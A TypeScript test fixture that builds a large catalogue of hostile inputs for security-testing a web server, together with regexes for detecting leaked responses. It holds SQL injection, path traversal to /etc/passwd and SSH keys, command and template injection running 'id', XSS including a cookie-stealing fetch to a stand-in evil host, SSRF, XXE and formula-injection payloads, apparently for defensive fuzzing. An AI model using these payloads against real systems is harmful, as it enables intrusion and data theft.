/** One input that somebody might send who means no good. */
export interface HostileInput {
  readonly kind: string;
  /** As it stands in a JSON body, and percent-encoded in an address. */
  readonly text: string;
  /** As it stands in an address, where that is no encoding of the text. */
  readonly raw?: string;
}

/** What a server must never answer: the result of what an input asks for. */
export const LEAKS: readonly RegExp[] = [
  /root:x:0:0/,
  /canary49/,
  /PostgreSQL \d+/,
  /scrypt\$\d/,
  /node_modules|\.ts:\d+|\.js:\d+/,
  /SyntaxError|TypeError|RangeError|QueryError|DatabaseError/,
  /relation "|column "|syntax error at or near/,
];

const times = <T>(parts: readonly T[], of: (part: T) => readonly string[]): string[] => parts.flatMap(of);

const QUOTES = ["'", '"', "''", "')", '")', "'))", '`', "\\'"] as const;
const SQL = [
  ...times(QUOTES, (q) => [
    `${q} OR 1=1--`,
    `${q} OR 'a'='a`,
    `${q}; DROP TABLE statement;--`,
    `${q}; UPDATE account SET role='administrator';--`,
    `${q} UNION SELECT version()--`,
    `${q} UNION SELECT name, password FROM account--`,
    `${q}; DELETE FROM audit;--`,
    `${q} AND 1=(SELECT count(*) FROM account)--`,
    `${q}||(SELECT password FROM account LIMIT 1)||${q}`,
    `${q}; COPY account TO PROGRAM 'id';--`,
  ]),
  '$1',
  '$$; DROP TABLE claim; $$',
  '1; SELECT 1/0',
  'CAST(version() AS int)',
  '{"$ne": null}',
  "%' --",
  '_',
  '\\',
  "E'\\x00'",
  "a' & 'b",
  ':*',
  '!!!',
  '&|!()<->',
  '"unclosed',
  '-"',
  '(((((',
];

const FILES = ['etc/passwd', 'etc/passwd%00.json', 'proc/self/environ', 'package.json', 'windows/win.ini'] as const;
const UPWARDS = [
  '../',
  '..\\',
  '....//',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '..%c0%af',
  '%252e%252e%252f',
  '..;/',
  './../',
] as const;
const TRAVERSAL = [
  ...times(UPWARDS, (up) => FILES.map((file) => up.repeat(6) + file)),
  '/etc/passwd',
  'file:///etc/passwd',
  'C:\\windows\\win.ini',
  '\\\\server\\share',
  '~root/.ssh/id_rsa',
  '.',
  '..',
  '...',
  '/',
  '//',
];

const BREAKS = ['\r\n', '\n', '\r', '%0d%0a', '%0a', '\u2028', '\u0085', '\r\n\r\n'] as const;
const HEADERS = times(BREAKS, (line) => [
  `a${line}X-Injected: yes`,
  `a${line}Set-Cookie: hearsay_session=evil`,
  `a${line}Location: https://evil.example/`,
  `a${line}Content-Length: 0${line}${line}HTTP/1.1 200 OK`,
  `a${line}Bcc: all@evil.example`,
]);

const MARKS = [
  ['{{', '}}'],
  ['${', '}'],
  ['<%=', '%>'],
  ['#{', '}'],
  ['*{', '}'],
  ['@(', ')'],
  ['{%', '%}'],
  ['[[', ']]'],
] as const;
const TEMPLATES = times(MARKS, ([open, close]) => [
  `canary${open}7*7${close}`,
  `${open}constructor.constructor("return process")()${close}`,
  `${open}this.process.env${close}`,
  `${open}require("child_process").execSync("id")${close}`,
]);

const CALLS = ['alert(1)', 'fetch("//evil.example/"+document.cookie)'] as const;
const SCRIPTS = times(CALLS, (call) => [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `<img src=x onerror='${call}'>`,
  `<svg onload='${call}'>`,
  `<svg><script>${call}</script></svg>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `data:text/html,<script>${call}</script>`,
  `<iframe srcdoc="<script>${call}</script>">`,
  `<a href="javascript:${call}">a</a>`,
  `</title><script>${call}</script>`,
  `<!--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror='${call}'>`,
  `'-${call}-'`,
  `\\u003cscript\\u003e${call}`,
]);

const UNICODE = [
  '\u0000',
  'a\u0000b',
  '\u0000'.repeat(50),
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\ud83d',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '\u202edesrever',
  '\u2066a\u2069',
  '\u200b',
  '\u200d'.repeat(100),
  'e\u0301'.repeat(200),
  `a${'\u0300'.repeat(390)}`,
  '\u1e9e',
  'ﬃ',
  'İ',
  'ı',
  '𝒜𝒹𝓂𝒾𝓃',
  'аdmin',
  '＜script＞',
  '＇ OR 1=1',
  '﷽'.repeat(50),
  '👩‍👩‍👧‍👦'.repeat(30),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L',
  '\u0001\u0002\u0008\u001b[31m',
  '\u001b]0;owned\u0007',
  '\u007f',
  '\u009b31m',
  '\ue000',
  '\u{10ffff}',
  '\u{e0041}',
];

const SIZES = [500, 5000, 50_000] as const;
const OVERSIZE = times(SIZES, (size) => [
  'a'.repeat(size),
  ' '.repeat(size),
  '"'.repeat(size),
  '('.repeat(size),
  '\\'.repeat(size),
  '../'.repeat(size / 4),
  '9'.repeat(size),
  'ä'.repeat(size / 2),
  `${'a'.repeat(size / 2)}!`,
  '-"a" '.repeat(size / 5),
]);

const PROTOTYPES = times(
  ['__proto__', 'constructor', 'prototype', 'constructor.prototype', 'hasOwnProperty', 'toString', 'valueOf'],
  (name) => [name, `${name}[polluted]`, `${name}.polluted`, `{"${name}": {"polluted": true}}`],
);

const NUMBERS = [
  ...['0', '-0', '-1', '1e309', '-1e309', 'NaN', 'Infinity', '-Infinity', '0x10', '0b1', '1_000', '1,5', '1.5', '٣', '9007199254740993'],
  ...[
    '2147483648',
    '-2147483649',
    '9223372036854775808',
    '1e-400',
    '00',
    '+1',
    ' 1',
    '1 ',
    'null',
    'undefined',
    'true',
    '[]',
    '{}',
    '[object Object]',
  ],
  ...['0-0', '1-1', '999999999999999-999999999999999', '-1-1', '1-', '-'],
];

const DAYS = [
  ...[
    '0000-01-01',
    '0000-00-00',
    '0001-01-01',
    '9999-12-31',
    '2025-02-29',
    '2025-13-01',
    '-0001-01-01',
    '+275760-09-13',
    'infinity',
    '-infinity',
  ],
  ...[
    'now',
    'today',
    'epoch',
    '2025-05-03T00:00:00',
    '0000-01-01T00:00:00Z',
    '9999-12-31T23:59:59-23:59',
    '0001-01-01T00:00:00+23:59',
    '24:00',
  ],
];

const COMMANDS = times(['; id', '| id', '|| id', '& id', '&& id', '`id`', '$(id)', '\nid', '%0aid', '; sleep 5'], (call) => [
  call,
  `a${call}`,
]);

const ADDRESSES = [
  ...[
    'http://169.254.169.254/latest/meta-data/',
    'http://127.0.0.1:54329/',
    'http://[::1]/',
    'http://0/',
    'http://2130706433/',
    'http://0x7f.1/',
  ],
  ...[
    'http://localhost:7878/metrics',
    'gopher://127.0.0.1:25/',
    'ftp://127.0.0.1/',
    'dict://127.0.0.1:11211/',
    'http://a:b@127.0.0.1/',
    'http://',
  ],
  ...[
    '//evil.example',
    'https://evil.example@desk.example/',
    'https://desk.example.evil.example/',
    'http://[::ffff:127.0.0.1]/',
    'jar:http://a!/b',
  ],
];

const CURSORS = [
  ...[
    [],
    ['a'],
    ['a', 1],
    [null, null],
    ['2025-02-30', 'c1'],
    ['0000-01-01', 'c1'],
    ["'; DROP TABLE claim;--", 'c1'],
    ['2025-05-03', '\u0000'],
  ],
  ...[
    ['infinity', ''],
    ['2025-05-03', "' OR 1=1--"],
    ['\u0000', 'a'],
    ['2025-05-03T00:00:00.000Z', 'd1'],
    ['9999-99-99T99:99:99.999Z', 'd1'],
    {},
    'a',
    7,
  ],
].map((value) => Buffer.from(JSON.stringify(value)).toString('base64url'));

const MARKUP = [
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  `<!DOCTYPE a [<!ENTITY a "a">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${'&a;'.repeat(9)}">`).join('')}]><a>&a8;</a>`,
  '=cmd|"/c calc"!A0',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '*)(uid=*))(|(uid=*',
  "' or '1'='1' or ''='",
  '<!--#exec cmd="id"-->',
  '(a+)+$',
  `${'a'.repeat(60)}!`,
  '^(([a-z])+.)+[A-Z]([a-z])+$',
];

const RAW = [
  ...[
    '%00',
    '%',
    '%z',
    '%zz',
    '%c3',
    '%c3%28',
    '%ff',
    '%ff%fe',
    '%ed%a0%80',
    '%f8%a1%a1%a1%a1',
    '%c0%80',
    '%e0%80%ae',
    '%2500',
    '%u0000',
    '%25',
  ],
  ...['..%00/', '%2e', '%2e%2e', '%2f', '%5c', '%23', '%3f', '%3b', '%26a=b', '%0d%0aX-Injected:%20yes', ';a=b', '%20', '%09', '+'],
];

const CLASSES: Readonly<Record<string, readonly string[]>> = {
  sql: SQL,
  traversal: TRAVERSAL,
  header: HEADERS,
  template: TEMPLATES,
  script: SCRIPTS,
  unicode: UNICODE,
  oversize: OVERSIZE,
  prototype: PROTOTYPES,
  number: NUMBERS,
  day: DAYS,
  command: COMMANDS,
  address: ADDRESSES,
  cursor: CURSORS,
  markup: MARKUP,
};

/** Every input, class by class; each once. */
export const HOSTILE_INPUTS: readonly HostileInput[] = [
  ...Object.entries(CLASSES).flatMap(([kind, texts]) => [...new Set(texts)].map((text) => ({ kind, text }))),
  ...RAW.map((raw) => ({ kind: 'encoding', text: raw, raw })),
];

/** An input as it stands in an address: percent-encoded; what has no encoding in UTF-8 as it would stand in a careless one. */
export function inAddress({ text, raw }: HostileInput): string {
  if (raw !== undefined) return raw;
  const known = encoded.get(text);
  if (known !== undefined) return known;
  const bytes = Buffer.from(text, 'utf8').toString('hex');
  const whole = bytes.replace(/../g, (byte) => {
    const character = String.fromCharCode(Number.parseInt(byte, 16));
    return /[\w.~-]/.test(character) ? character : `%${byte}`;
  });
  encoded.set(text, whole);
  return whole;
}

const encoded = new Map<string, string>();
